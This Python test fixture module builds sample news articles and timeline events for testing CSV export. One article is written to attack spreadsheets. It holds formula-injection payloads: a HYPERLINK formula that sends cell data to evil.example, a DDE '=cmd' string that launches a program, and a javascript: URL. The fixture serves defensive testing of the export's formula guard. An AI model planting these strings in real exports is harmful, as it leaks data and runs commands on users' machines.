"""Events and articles for the export tests, built by hand (no database): the seed's
days, a correction, an open-ended event, and text written to attack a spreadsheet; and
the cells a CSV row of an event should read back as."""

from __future__ import annotations

from datetime import UTC, datetime

from timeline.model import Article, Event, Granularity, Status

SEED_ARTICLE = Article(
    text="Kim Jong Un arrives in Russia ...",
    published=datetime(2023, 9, 12),
    title="Kim Jong Un arrives in Russia",
    url="https://example.org/news/kim-russia",
    outlet="Example News",
    source_path="/data/kim-jong-un-arrives-in-russia.txt",
    dct_source="sidecar",
    id=1,
    content_hash="a" * 64,
)

# Text built to run as a formula in a spreadsheet, in every free-text column.
ATTACK_ARTICLE = Article(
    text="=HYPERLINK(\"http://evil.example/?\"&A1)",
    published=datetime(1969, 7, 20),
    title="=cmd|' /C calc'!A0",
    url="javascript:alert(1)",
    source_path="@evil.txt",
    id=2,
    content_hash="b" * 64,
)


def event(**fields) -> Event:
    """An event with plausible defaults; ``fields`` override them."""
    values = dict(
        title="Kim leaves for Russia",
        description="Kim left for Russia on Sunday, officials said.",
        char_start=150,
        char_end=200,
        expression="Sunday",
        expr_start=170,
        expr_end=176,
        timex_type="DATE",
        timex_value="2023-09-10",
        mod=None,
        earliest=datetime(2023, 9, 10),
        latest=datetime(2023, 9, 11),
        granularity=Granularity.DAY,
        confidence=0.9,
        explanation="'Sunday' + past tense -> the Sunday before the DCT",
        anchor="DCT 2023-09-12",
        article_id=1,
    )
    values.update(fields)
    return Event(**values)


def sample_events() -> list[Event]:
    """Five events in scrambled order, ids 1-5; time order is 4 (1969), 3, 2, 1, then 5
    (open-ended)."""
    return [
        event(id=1, title="Kim enters Russia early on Tuesday",
              description='He crossed at Khasan, "early", by train,\nthen went on.',
              expression="early on Tuesday", timex_value="2023-09-12TMO",
              earliest=datetime(2023, 9, 12), latest=datetime(2023, 9, 12, 12),
              granularity=Granularity.PART_OF_DAY, confidence=0.8),
        # Corrected by the analyst from Sunday to Monday, with a note.
        event(id=2, earliest=datetime(2023, 9, 11), latest=datetime(2023, 9, 12),
              timex_value="2023-09-11", status=Status.CORRECTED, version=2,
              reviewed_at=datetime(2023, 9, 14, 10, 30, 5), note="Monday per the agency"),
        event(id=3, title="They met in 2019", description="They met in 2019 in Vladivostok.",
              expression="2019", timex_value="2019", earliest=datetime(2019, 1, 1),
              latest=datetime(2020, 1, 1), granularity=Granularity.YEAR,
              status=Status.ACCEPTED, reviewed_at=datetime(2023, 9, 14, 9, 0)),
        event(id=5, title="Talks after the forum", description="Talks follow after the forum.",
              expression="after the forum", timex_value=None, earliest=None, latest=None,
              granularity=Granularity.UNKNOWN, open_ended=True, confidence=0.3,
              status=Status.REJECTED),
        event(id=4, article_id=2, title="@SUM(1+1)", description="-2+3 and then some",
              expression="+1 day", timex_value="1969-07-20T20:17", mod="APPROX",
              earliest=datetime(1969, 7, 20, 20, 17), latest=datetime(1969, 7, 20, 20, 18),
              granularity=Granularity.MINUTE, explanation="\t=1+1", note="\r=2+2",
              confidence=1.0 / 3.0),
    ]


def sample_articles() -> dict[int, Article]:
    return {1: SEED_ARTICLE, 2: ATTACK_ARTICLE}


def unguard(cell: str) -> str:
    """Undo the guard: it only ever adds an apostrophe before a formula character."""
    return cell[1:] if cell[:1] == "'" and cell[1:2] and cell[1:2] in "=+-@\t\r" else cell


def expected_cells(event, article) -> dict[str, str]:
    """What the database holds for ``event`` and its ``article``, as the text a CSV
    reader gets back, for the columns that carry stored values."""
    def iso(moment):
        return moment.isoformat() if moment else ""

    def utc(moment):
        return moment.replace(tzinfo=UTC).isoformat() if moment else ""

    return {
        "event_id": str(event.id), "start": iso(event.earliest), "end": iso(event.latest),
        "granularity": event.granularity.value, "timex_value": event.timex_value or "",
        "expression": event.expression or "", "title": event.title,
        "description": event.description, "status": event.status.value,
        "confidence": repr(event.confidence),
        # A corrected event's explanation is replaced: the tagger's names the old date.
        "explanation": ("corrected by the analyst" if event.status is Status.CORRECTED
                        else event.explanation),
        "analyst_note": event.note or "", "reviewed_at": utc(event.reviewed_at),
        "article_title": article.title or "", "article_published": iso(article.published),
        "article_url": article.url or "", "article_file": article.source_path or "",
        "char_start": str(event.char_start), "char_end": str(event.char_end),
    }
